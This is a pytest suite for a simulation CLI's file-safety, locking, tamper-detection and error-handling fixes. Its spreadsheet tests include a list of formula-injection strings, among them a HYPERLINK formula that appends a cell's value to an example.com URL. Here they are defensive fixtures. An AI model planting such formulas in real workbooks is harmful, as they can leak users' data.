"""No user file is ever lost; --repeat verifies; spreadsheets are data; faults end in one line (issue 10: 4-8, 9).

Each test reproduces one defect of issue 10 (the number in its docstring) and checks the fix.
"""

from __future__ import annotations

import errno
import json
import os
import platform
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import exp_helpers as H
import openpyxl
import pandas as pd
import pytest

from sim.experiment import outputs, sweep
from sim.experiment.cli import main as cli_main
from sim.experiment.outputs import Lock, write_excel
from sim.experiment.runner import RecordChanged, _Run, repeat, run_experiment


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def _one_error(capsys, argv: list[str], status: int = 2) -> str:
    assert cli_main(argv) == status
    err = capsys.readouterr().err
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith("hta-sim: error: ") and "Traceback" not in err
    return lines[0]


def _nothing_left(folder: Path) -> None:
    """No output folder, no staging folder, no lock: nothing that looks like a result."""
    assert not (folder / "out").exists()
    assert not (folder / ".out.partial").exists()
    assert not (folder / ".out.lock").exists()
    assert H.result_like(folder) == []


# ---------------------------------------------------------------------------- 4: --overwrite and the inputs
@pytest.mark.parametrize("overwrite", [False, True])
def test_output_folder_holding_the_inputs_is_refused(tmp_path, capsys, monkeypatch, overwrite):
    """Defect 4: ``output = "../analysis"`` run from ``analysis/`` with --overwrite deleted the experiment file."""
    analysis = tmp_path / "analysis"
    f = H.small(analysis, draws=20)
    f.write_text(f.read_text().replace('output = "out"', 'output = "../analysis"'))
    (analysis / "notes.txt").write_text("my notes")
    before = _snapshot(analysis)
    monkeypatch.chdir(analysis)
    msg = _one_error(capsys, ["run", "exp.toml", "--quiet", *(["--overwrite"] if overwrite else [])])
    assert "holds the experiment's inputs" in msg and "exp.toml" in msg and "hiv.csv" in msg, msg
    assert _snapshot(analysis) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["analysis"]


def test_overwrite_refuses_files_it_did_not_write_and_lists_them(tmp_path, capsys):
    f = H.small(tmp_path, draws=20)
    assert cli_main(["run", str(f), "--quiet"]) == 0
    out = tmp_path / "out"
    (out / "notes.txt").write_text("mine")
    (out / "figures" / "my_plot.png").write_bytes(b"png")
    before = _snapshot(out)
    f.write_text(f.read_text().replace("seed = 11", "seed = 12"))
    msg = _one_error(capsys, ["run", str(f), "--quiet", "--overwrite"])
    assert "files hta-sim did not write" in msg and "notes.txt" in msg and "figures/my_plot.png" in msg, msg
    assert _snapshot(out) == before


def test_rerun_keeps_files_the_user_added(tmp_path, capsys):
    """Defect 6: a rerun deleted files the user added to its result folder."""
    f = H.small(tmp_path, draws=20)
    assert cli_main(["run", str(f), "--quiet"]) == 0
    (tmp_path / "out" / "notes.txt").write_text("mine")
    before = _snapshot(tmp_path / "out")
    msg = _one_error(capsys, ["run", str(f), "--quiet"])
    assert "notes.txt" in msg
    assert _snapshot(tmp_path / "out") == before
    assert not (tmp_path / ".out.partial").exists()


def test_overwrite_refuses_an_edited_result_file_or_manifest(tmp_path, capsys):
    f = H.small(tmp_path, draws=20)
    assert cli_main(["run", str(f), "--quiet"]) == 0
    out = tmp_path / "out"
    csv = out / "psa_outcomes.csv"
    csv.write_text(csv.read_text() + "# my comment\n")
    f.write_text(f.read_text().replace("seed = 11", "seed = 12"))
    msg = _one_error(capsys, ["run", str(f), "--quiet", "--overwrite"])
    assert "changed since the run" in msg and "psa_outcomes.csv" in msg
    assert csv.read_text().endswith("# my comment\n")
    # a manifest edited to claim a user file as a result: refused, nothing deleted
    csv.unlink()
    (out / "notes.txt").write_text("mine")
    m = json.loads((out / "manifest.json").read_text())
    del m["outputs"]["psa_outcomes.csv"]
    m["outputs"]["notes.txt"] = outputs.sha256(out / "notes.txt")
    (out / "manifest.json").write_text(json.dumps(m))
    msg = _one_error(capsys, ["run", str(f), "--quiet", "--overwrite"])
    assert "manifest.json that was edited" in msg
    assert (out / "notes.txt").read_text() == "mine"


def test_overwrite_replaces_only_recorded_files(tmp_path):
    f = H.small(tmp_path, draws=20)
    first = run_experiment(f)
    f.write_text(f.read_text().replace("seed = 11", "seed = 12"))
    res = run_experiment(f, overwrite=True)
    assert res.manifest["seed"] == 12 and res.folder == first.folder
    assert set(_snapshot(res.folder)) == {*res.manifest["outputs"], "manifest.json"}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["exp.toml", "hiv.csv", "out"]


# ---------------------------------------------------------------------------- 5: the lock
def _lock_file(target: Path, pid: int, host: str | None = None) -> Path:
    lock = target.parent / f".{target.name}.lock"
    lock.write_text(json.dumps({"pid": pid, "host": host or platform.node(), "started": "2026-01-01T00:00:00+00:00"}))
    return lock


def test_second_concurrent_run_gets_one_line_naming_the_holder(tmp_path, capsys, monkeypatch):
    """Defect 5: two runs into one output folder corrupted it; the second ended in a traceback."""
    f = H.small(tmp_path, draws=20)
    real = _Run.run_all
    seen = {}

    def run_all(self):
        # while the first run holds the folder, a second run of the same command starts
        seen["status"] = cli_main(["run", str(f), "--quiet"])
        seen["err"] = capsys.readouterr().err
        real(self)

    monkeypatch.setattr(_Run, "run_all", run_all)
    assert cli_main(["run", str(f), "--quiet"]) == 0
    assert seen["status"] == 2
    lines = seen["err"].strip().splitlines()
    assert len(lines) == 1, seen["err"]
    assert re.search(rf"is in use by another hta-sim run \(pid {os.getpid()} on .+, started 20\d\d-", lines[0])
    assert not (tmp_path / ".out.lock").exists()
    assert (tmp_path / "out" / "manifest.json").is_file()


def test_lock_held_by_a_live_process_or_another_host_is_respected(tmp_path, capsys):
    f = H.small(tmp_path, draws=20)
    holder = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        lock = _lock_file(tmp_path / "out", holder.pid)
        msg = _one_error(capsys, ["run", str(f), "--quiet"])
        assert f"pid {holder.pid} on {platform.node()}, started 2026-01-01T00:00:00+00:00" in msg, msg
        assert "delete" in msg and str(lock) in msg
        assert lock.is_file() and not (tmp_path / "out").exists()
    finally:
        holder.kill()
        holder.wait()
    lock = _lock_file(tmp_path / "out", 12345, host="another-host.example")
    msg = _one_error(capsys, ["run", str(f), "--quiet"])
    assert "pid 12345 on another-host.example" in msg
    lock.unlink()


def test_stale_lock_of_a_dead_process_is_recovered(tmp_path):
    f = H.small(tmp_path, draws=20)
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    _lock_file(tmp_path / "out", dead.pid)
    res = run_experiment(f)
    assert (res.folder / "manifest.json").is_file()
    assert not (tmp_path / ".out.lock").exists()
    assert not list(tmp_path.glob(".out.lock*"))


def test_lock_unit(tmp_path):
    a, b = Lock(tmp_path / "o", "x"), Lock(tmp_path / "o", "x")
    a.acquire()
    with pytest.raises(outputs.HtaError, match="in use by another hta-sim run"):
        b.acquire()
    b.release()  # not held: does nothing
    assert a.path.is_file()
    a.release()
    assert not a.path.exists()
    b.acquire()
    b.release()


# ---------------------------------------------------------------------------- 7: --repeat verifies first
@pytest.fixture
def recorded(tmp_path):
    f = H.small(tmp_path, draws=30)
    assert cli_main(["run", str(f), "--quiet"]) == 0
    return tmp_path / "out"


def _tamper_digit(folder: Path) -> str:
    p = folder / "psa_outcomes.csv"
    text = p.read_text()
    i = next(i for i, ch in enumerate(text) if ch.isdigit() and i > text.index("\n"))
    p.write_text(text[:i] + str((int(text[i]) + 1) % 10) + text[i + 1:])
    return "psa_outcomes.csv"


@pytest.mark.parametrize("tamper, expected", [
    (_tamper_digit, "changed (SHA-256 differs): psa_outcomes.csv"),
    (lambda d: (d / "ceac.csv").unlink(), "missing: ceac.csv"),
    (lambda d: [(d / "ceac.csv").unlink(), _tamper_digit(d)], "missing: ceac.csv; changed (SHA-256 differs): "
                                                               "psa_outcomes.csv"),
])
def test_repeat_names_missing_or_changed_files_and_touches_nothing(recorded, capsys, tamper, expected):
    """Defect 7: --repeat said "identical" after a result file was edited or deleted, and overwrote it."""
    tamper(recorded)
    before = _snapshot(recorded)
    msg = _one_error(capsys, ["run", "--repeat", str(recorded / "manifest.json"), "--quiet"], status=1)
    assert expected in msg, msg
    assert _snapshot(recorded) == before
    assert sorted(p.name for p in recorded.parent.iterdir()) == ["exp.toml", "hiv.csv", "out"]


@pytest.mark.parametrize("edit", [
    lambda m: m.update(seed=12),
    lambda m: m["outputs"].update({"ceac.csv": "0" * 64}),
    lambda m: m["outputs"].pop("ceac.csv"),
    lambda m: m.pop("manifest_sha256"),
])
def test_repeat_detects_an_edited_manifest(recorded, capsys, edit):
    mpath = recorded / "manifest.json"
    m = json.loads(mpath.read_text())
    edit(m)
    mpath.write_text(json.dumps(m, indent=2))
    before = _snapshot(recorded)
    msg = _one_error(capsys, ["run", "--repeat", str(mpath), "--quiet"], status=1)
    assert "the manifest was edited since the run" in msg
    assert _snapshot(recorded) == before
    with pytest.raises(RecordChanged):
        repeat(mpath)


def test_repeat_goes_to_a_fresh_folder_and_never_modifies_the_record(recorded, capsys):
    before = _snapshot(recorded)
    mtimes = {p: p.stat().st_mtime_ns for p in recorded.rglob("*")}
    assert cli_main(["run", "--repeat", str(recorded), "--quiet"]) == 0
    assert "every result file identical" in capsys.readouterr().out
    assert cli_main(["run", "--repeat", str(recorded / "manifest.json"), "--quiet"]) == 0
    assert _snapshot(recorded) == before
    assert {p: p.stat().st_mtime_ns for p in recorded.rglob("*")} == mtimes
    for name in ("out.repeat-1", "out.repeat-2"):
        rerun = recorded.parent / name
        assert (rerun / "psa_outcomes.csv").read_bytes() == before["psa_outcomes.csv"]
    msg = _one_error(capsys, ["run", "--repeat", str(recorded / "manifest.json"), "--output", str(recorded)])
    assert "never modifies the recorded run" in msg
    assert _snapshot(recorded) == before


# ---------------------------------------------------------------------------- 8: spreadsheets are data
NASTY = ['=HYPERLINK("http://example.com/?"&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A2)", "=1+1", "plain"]


def test_write_excel_stores_strings_as_text(tmp_path):
    df = pd.DataFrame({"text": NASTY, "number": range(len(NASTY))})
    path = write_excel({"sheet": df}, tmp_path / "x.xlsx")
    ws = openpyxl.load_workbook(path).worksheets[0]
    for i, value in enumerate(NASTY, start=2):
        cell = ws.cell(row=i, column=1)
        assert cell.data_type == "s" and cell.value == value, (cell.coordinate, cell.data_type, cell.value)
        assert ws.cell(row=i, column=2).data_type == "n"


def test_parameter_source_formula_is_text_in_the_workbook(tmp_path):
    """Defect 8: a parameter source ``=HYPERLINK(...)`` was stored as a live formula in the workbook."""
    f = H.small(tmp_path, draws=20)
    table = pd.read_csv(tmp_path / "hiv.csv")
    table.loc[0, "source"] = NASTY[0]
    table.loc[1, "description"] = "=1+1"
    table.to_csv(tmp_path / "hiv.csv", index=False)
    res = run_experiment(f)
    ws = openpyxl.load_workbook(res.folder / "results.xlsx")["Parameters"]
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for value in (NASTY[0], "=1+1"):
        assert value in cells and cells[value].data_type == "s"
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]


# ---------------------------------------------------------------------------- 9: faults end in one line
def test_full_disk_ends_in_one_line_and_leaves_nothing(tmp_path, capsys, monkeypatch):
    f = H.small(tmp_path, draws=20)
    real = outputs.write_parquet_atomic

    def full(df, path):
        real(df, path)
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))

    monkeypatch.setattr(outputs, "write_parquet_atomic", full)
    msg = _one_error(capsys, ["run", str(f), "--quiet"])
    assert "No space left on device" in msg and "free some space" in msg and "base_case.parquet" in msg, msg
    _nothing_left(tmp_path)


def test_read_only_output_ends_in_one_line(tmp_path, capsys, monkeypatch):
    f = H.small(tmp_path, draws=20)
    real_open = os.open

    def read_only(path, *args, **kw):
        if str(path).startswith(str(tmp_path)) and str(path).endswith(".lock"):
            raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(path))
        return real_open(path, *args, **kw)

    monkeypatch.setattr(os, "open", read_only)
    msg = _one_error(capsys, ["run", str(f), "--quiet"])
    assert "Read-only file system" in msg and "writable output folder" in msg
    _nothing_left(tmp_path)


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0, reason="root ignores file permissions")
def test_read_only_folder_by_permissions(tmp_path, capsys):
    f = H.small(tmp_path / "exp", draws=20)
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o555)
    try:
        msg = _one_error(capsys, ["run", str(f), "--quiet", "--output", str(ro / "out")])
        assert "Permission denied" in msg
        assert list(ro.iterdir()) == []
    finally:
        ro.chmod(0o755)


def test_ctrl_c_exits_130_with_one_line(tmp_path, capsys, monkeypatch):
    f = H.small(tmp_path, draws=20)

    def interrupted(self):
        raise KeyboardInterrupt

    monkeypatch.setattr(_Run, "psa", interrupted)
    msg = _one_error(capsys, ["run", str(f), "--quiet"], status=130)
    assert "interrupted (Ctrl-C)" in msg
    _nothing_left(tmp_path)


def _interrupted_sweep(tmp_path: Path, monkeypatch, finished: int = 3) -> Path:
    f = H.sweep(tmp_path, draws=100)
    real = sweep.scenario_psa
    calls = []

    def failing(*args):
        if len(calls) == finished:
            raise KeyboardInterrupt
        calls.append(1)
        return real(*args)

    monkeypatch.setattr(sweep, "scenario_psa", failing)
    assert cli_main(["run", str(f), "--quiet"]) == 130
    monkeypatch.setattr(sweep, "scenario_psa", real)
    return f


def test_ctrl_c_in_a_sweep_keeps_only_the_marked_partial_folder(tmp_path, capsys, monkeypatch):
    _interrupted_sweep(tmp_path, monkeypatch)
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "interrupted (Ctrl-C)" in err[0]
    assert not (tmp_path / "out").exists() and not (tmp_path / ".out.lock").exists()
    assert len(list((tmp_path / ".out.partial" / "sweep").glob("*/_SUCCESS"))) == 3


@pytest.mark.parametrize("damage", ["truncate", "empty", "rows"])
def test_corrupted_finished_partition_is_named_with_how_to_redo_it(tmp_path, capsys, monkeypatch, damage):
    """Defect 9: a corrupted finished sweep partition failed every rerun with no advice."""
    f = _interrupted_sweep(tmp_path, monkeypatch)
    capsys.readouterr()
    part = tmp_path / ".out.partial" / "sweep" / "scenario=00001"
    data = (part / "part-0.parquet").read_bytes()
    if damage == "truncate":
        (part / "part-0.parquet").write_bytes(data[: len(data) // 2])
    elif damage == "empty":
        (part / "part-0.parquet").write_bytes(b"")
    else:
        (part / "_SUCCESS").write_text("7\n")
    msg = _one_error(capsys, ["run", str(f), "--quiet"])
    assert f"{part / 'part-0.parquet'}: finished sweep partition is corrupted" in msg, msg
    assert f"delete the folder {str(part)!r}" in msg
    assert not (tmp_path / "out").exists()
    # the advice works: delete that partition folder, rerun the same command
    for p in sorted(part.iterdir()):
        p.unlink()
    part.rmdir()
    assert cli_main(["run", str(f), "--quiet"]) == 0
    data = sweep.read_sweep(tmp_path / "out")
    assert sorted(data["scenario"].unique()) == list(range(6))


def test_corrupted_partition_in_a_finished_run_is_named_on_rerun(tmp_path, capsys):
    f = H.sweep(tmp_path, draws=50)
    assert cli_main(["run", str(f), "--quiet"]) == 0
    part = tmp_path / "out" / "sweep" / "scenario=00002" / "part-0.parquet"
    part.write_bytes(part.read_bytes()[:100])
    msg = _one_error(capsys, ["run", str(f), "--quiet"])
    assert "sweep/scenario=00002/part-0.parquet" in msg and "changed since the run" in msg
    with pytest.raises(outputs.HtaError, match="finished sweep partition is corrupted"):
        sweep.read_sweep(tmp_path / "out")


# ---------------------------------------------------------------------------- real faults (slow)
def _mount_tmpfs(where: Path, options: str) -> bool:
    where.mkdir(parents=True, exist_ok=True)
    r = subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(where)], capture_output=True)
    return r.returncode == 0


def _cli(args: list[str], **kw) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(H.ROOT), os.environ.get("PYTHONPATH", "")])}
    return subprocess.run([sys.executable, "-m", "sim", *args], env=env, capture_output=True, text=True, **kw)


@pytest.mark.slow
def test_real_full_disk_on_a_small_tmpfs(tmp_path):
    f = H.small(tmp_path / "exp", draws=2000, chunk=500)
    disk = tmp_path / "disk"
    if not _mount_tmpfs(disk, "size=64k"):
        pytest.skip("cannot mount a tmpfs here")
    try:
        r = _cli(["run", str(f), "--quiet", "--output", str(disk / "out")])
        assert r.returncode == 2, r.stderr
        lines = r.stderr.strip().splitlines()
        assert len(lines) == 1 and "No space left on device" in lines[0] and "Traceback" not in r.stderr
        assert list(disk.iterdir()) == []
    finally:
        subprocess.run(["umount", str(disk)], check=False)


@pytest.mark.slow
def test_real_read_only_mount(tmp_path):
    f = H.small(tmp_path / "exp", draws=20)
    ro = tmp_path / "ro"
    if not _mount_tmpfs(ro, "ro,size=64k"):
        pytest.skip("cannot mount a tmpfs here")
    try:
        r = _cli(["run", str(f), "--quiet", "--output", str(ro / "out")])
        assert r.returncode == 2, r.stderr
        lines = r.stderr.strip().splitlines()
        assert len(lines) == 1 and "Read-only file system" in lines[0] and "Traceback" not in r.stderr
    finally:
        subprocess.run(["umount", str(ro)], check=False)


@pytest.mark.slow
def test_sigint_exits_130_with_one_line_and_no_result(tmp_path):
    f = H.small(tmp_path, draws=400_000, chunk=20_000)
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(H.ROOT), os.environ.get("PYTHONPATH", "")])}
    proc = subprocess.Popen([sys.executable, "-m", "sim", "run", str(f), "--quiet"], env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 120
        while not (tmp_path / ".out.partial").exists():
            assert proc.poll() is None, proc.stderr.read()
            assert time.monotonic() < deadline
            time.sleep(0.02)
        time.sleep(0.5)
        proc.send_signal(signal.SIGINT)
        _, err = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == 130, err
    lines = err.strip().splitlines()
    assert len(lines) == 1 and "interrupted (Ctrl-C)" in lines[0] and "Traceback" not in err
    _nothing_left(tmp_path)
